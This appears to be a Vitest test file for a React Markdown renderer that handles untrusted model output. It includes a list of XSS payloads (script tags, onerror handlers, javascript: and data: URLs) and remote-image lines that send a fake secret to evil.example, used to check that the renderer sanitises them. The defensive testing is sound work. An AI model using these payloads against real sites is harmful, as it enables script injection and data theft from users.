import { describe, expect, it } from "vitest";
import { renderToStaticMarkup } from "react-dom/server";
import { Markdown } from "./markdown";

const html = (md: string) => renderToStaticMarkup(<Markdown text={md} />);
/** Markup without the newlines react-markdown keeps between block elements. */
const flat = (md: string) => html(md).replace(/\n+(?=<)/g, "");
/** Every element react produced, as [tag, attributes]; escaped text never matches. */
const elements = (markup: string) =>
  [...markup.matchAll(/<([a-z][a-z0-9]*)((?:\s[^>]*)?)\/?>/gi)].map((m) => [m[1], m[2]] as const);
const SAFE_TAGS = new Set([
  "div",
  "span",
  "p",
  "a",
  "code",
  "pre",
  "button",
  "table",
  "thead",
  "tbody",
  "tr",
  "th",
  "td",
  "em",
  "strong",
  "del",
  "ul",
  "ol",
  "li",
  "blockquote",
  "hr",
  "br",
  "h3",
  "h4",
  "h5",
  "h6",
  "input",
]);

describe("markdown", () => {
  it("renders blocks and inline marks", () => {
    const out = flat(
      "# Title\n\nSome **bold**, *em* and `code`.\n\n- one\n- two\n\n1. first\n\n> quoted\n\n```ts\nconst a = 1;\n```",
    );
    expect(out).toContain("<h3>Title</h3>");
    expect(out).toContain("<strong>bold</strong>");
    expect(out).toContain("<em>em</em>");
    expect(out).toContain("<code>code</code>");
    expect(out).toContain("<ul><li>one</li><li>two</li></ul>");
    expect(out).toContain("<ol><li>first</li></ol>");
    expect(out).toContain("<blockquote><p>quoted</p></blockquote>");
    expect(out).toContain("Copy");
  });

  it("keeps underscores inside words as text, not italics", () => {
    const out = html("read_file then edit_file, and __init__ or snake_case_name");
    expect(out).not.toContain("<em>");
    expect(out).toContain("read_file then edit_file");
    expect(out).toContain("snake_case_name");
  });

  it("nests lists and keeps ordered numbers", () => {
    const out = flat("- a\n  - b\n    - c\n- d\n\n3. three\n4. four\n   1. inner");
    expect(out).toContain("<ul><li>a<ul><li>b<ul><li>c</li></ul></li></ul></li><li>d</li></ul>");
    expect(out).toContain('<ol start="3"><li>three</li><li>four<ol><li>inner</li></ol></li></ol>');
  });

  it("highlights fenced code in the registered languages and leaves others plain", () => {
    const ts = html("```ts\nconst a: number = 1;\n```");
    expect(ts).toContain('<code class="hljs language-ts"><span class="hljs-keyword">const</span>');
    expect(ts).toContain('<span class="hljs-number">1</span>');
    const samples: Record<string, string> = {
      js: "let x = 1;",
      json: '{"a": 1}',
      bash: "echo $HOME # hi",
      sh: "if true; then ls; fi",
      python: "def f(): return 1",
      diff: "--- a\n+++ b\n-old\n+new",
      css: "a { color: red; }",
      html: '<b class="x">y</b>',
      markdown: "# title",
    };
    for (const [lang, code] of Object.entries(samples)) {
      expect(html(`\`\`\`${lang}\n${code}\n\`\`\``), lang).toContain('class="hljs-');
    }
    const unknown = html("```rust\nfn main() {}\n```");
    expect(unknown).toContain("<span>rust</span>");
    expect(unknown).toContain("fn main() {}");
    expect(unknown).not.toContain('class="hljs-');
  });

  it("shows an unclosed fence as code while it streams", () => {
    const out = flat("Here:\n```py\nprint(1)");
    expect(out).toContain("<p>Here:</p>");
    expect(out).toMatch(
      /<pre><code class="hljs language-py"><span class="hljs-built_in">print<\/span>\(<span class="hljs-number">1<\/span>\)\n?<\/code><\/pre>/,
    );
  });

  it("renders GFM tables with alignment, inline marks and escaped pipes", () => {
    const out = flat(
      "Files:\n\n| file | change | lines |\n|:---|:---:|---:|\n| `a.ts` | **greeting** | 3 |\n| b\\|c.ts | ~~old~~ |\n\nAfter.",
    );
    expect(out).toContain('<th style="text-align:left">file</th>');
    expect(out).toContain('<th style="text-align:center">change</th>');
    expect(out).toContain('<td style="text-align:left"><code>a.ts</code></td>');
    expect(out).toContain("<strong>greeting</strong>");
    expect(out).toContain('<td style="text-align:left">b|c.ts</td>');
    expect(out).toContain("<del>old</del>");
    expect(out.match(/<tr>/g)).toHaveLength(3);
    expect(out).toContain("<p>After.</p>");
  });

  it("keeps a header row without its delimiter yet (still streaming) as text", () => {
    expect(flat("| a | b |")).toBe(
      '<div class="' + flat("x").match(/class="([^"]+)"/)![1] + '"><p>| a | b |</p></div>',
    );
  });

  it("renders horizontal rules", () => {
    expect(flat("one\n\n---\n\ntwo")).toContain("<p>one</p><hr/><p>two</p>");
  });

  it("opens safe links in a new tab without an opener", () => {
    expect(html("[ok](https://example.com) <https://a.example> mail@example.com")).toContain(
      '<a href="https://example.com" target="_blank" rel="noopener noreferrer">ok</a>',
    );
    expect(html("<https://a.example>")).toContain('href="https://a.example" target="_blank" rel="noopener noreferrer"');
  });

  // Model text is untrusted: none of these may produce an element that runs script, loads a
  // resource, or links to a scriptable URL.
  const xss: Array<[string, string]> = [
    ["raw img with onerror", '<img src=x onerror="alert(1)">'],
    ["raw script", "<script>alert(2)</script>"],
    ["raw html block", '<div onclick="alert(1)">\n<iframe src="https://evil.example"></iframe>\n</div>'],
    ["javascript link", "[x](javascript:alert(1))"],
    ["upper-case javascript link", "[x](JAVASCRIPT:alert(1))"],
    ["entity-encoded javascript link", "[x](javascript&#58;alert(1))"],
    ["javascript autolink", "<javascript:alert(1)>"],
    ["javascript reference link", "[x][r]\n\n[r]: javascript:alert(1)"],
    ["data link", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"],
    ["vbscript link", "[x](vbscript:msgbox(1))"],
    ["remote image", "![pixel](https://evil.example/p.png?secret=1)"],
    ["javascript image", "![x](javascript:alert(1))"],
    ["reference image", "![x][r]\n\n[r]: https://evil.example/ref.png?secret=1"],
    ["protocol-relative image", "![x](//evil.example/p.png)"],
    ["svg data image", "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)"],
    ["html data image", "![x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"],
    ["raw img srcset", '<img srcset="https://evil.example/s 1x">'],
    ["raw css url", '<div style="background:url(https://evil.example/c)">x</div>'],
    ["raw link prefetch", '<link rel="prefetch" href="https://evil.example/p">'],
    ["raw svg image", '<svg><image href="https://evil.example/i"/></svg>'],
    ["spaced javascript link", "[x]( JaVaScRiPt:alert(1))"],
    ["html in inline code", "`<img src=x onerror=alert(1)>`"],
    ["html in fenced code", "```html\n<script>alert(1)</script><img src=x onerror=alert(1)>\n```"],
    ["html in a table cell", "| a |\n|---|\n| <img src=x onerror=alert(1)> |"],
  ];
  it.each(xss)("never renders live HTML or unsafe URLs: %s", (_name, md) => {
    const out = html(md);
    for (const [tag, attrs] of elements(out)) {
      expect(SAFE_TAGS.has(tag.toLowerCase()), `<${tag}> in ${out}`).toBe(true);
      for (const [, name, value] of attrs.matchAll(/([\w-]+)(?:="([^"]*)")?/g)) {
        expect(
          ["class", "style", "href", "target", "rel", "start", "type", "checked", "disabled"],
          `${name} on <${tag}>`,
        ).toContain(name);
        if (name === "href") expect(value).toMatch(/^(https?:|mailto:)/);
      }
    }
    expect(out).not.toMatch(/<(img|script|iframe)\b/i);
  });

  it("loads no remote image: a link naming its host stands in, to open on a click", () => {
    for (const md of [
      "![pixel](https://evil.example/p.png?secret=1)",
      '![pixel](https://evil.example/p.png?secret=1 "title")',
      "![pixel][r]\n\n[r]: https://evil.example/p.png?secret=1",
    ]) {
      const out = html(md);
      expect(out, md).not.toMatch(/<img\b/i);
      expect(out, md).toContain(
        '<a href="https://evil.example/p.png?secret=1" target="_blank" rel="noopener noreferrer">[image: pixel · evil.example]</a>',
      );
    }
  });

  it("shows a data: raster inline (no request) and nothing else as an image", () => {
    const png = "data:image/png;base64,iVBORw0KGgo=";
    expect(html(`![dot](${png})`)).toMatch(new RegExp(`<img src="${png}" alt="dot" class="[^"]*"/>`));
    expect(html("![x](data:image/svg+xml;base64,PHN2Zz4=)")).not.toContain("<img");
    expect(html('![x](data:image/png;base64,AA"onerror=alert(1))')).not.toContain("<img");
  });

  it("shows raw HTML and unsafe link targets as text", () => {
    const out = html('<img src=x onerror="alert(1)"> <script>alert(2)</script> [click](javascript:alert(3))');
    expect(out).toContain("&lt;script&gt;");
    expect(out).toContain("&lt;img src=x");
    expect(out).toContain("click (javascript:alert(3))");
    expect(html("```html\n<b>x</b>\n```")).toContain("&lt;");
  });
});
